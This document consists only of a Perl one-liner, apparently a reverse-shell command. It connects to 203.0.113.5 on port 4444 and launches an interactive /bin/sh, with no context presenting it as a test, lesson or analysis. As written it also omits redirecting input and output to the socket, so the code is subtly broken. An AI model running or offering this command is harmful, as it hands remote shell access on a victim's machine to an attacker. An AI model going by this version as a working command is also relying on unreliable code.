perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("203.0.113.5")));exec("/bin/sh -i");'
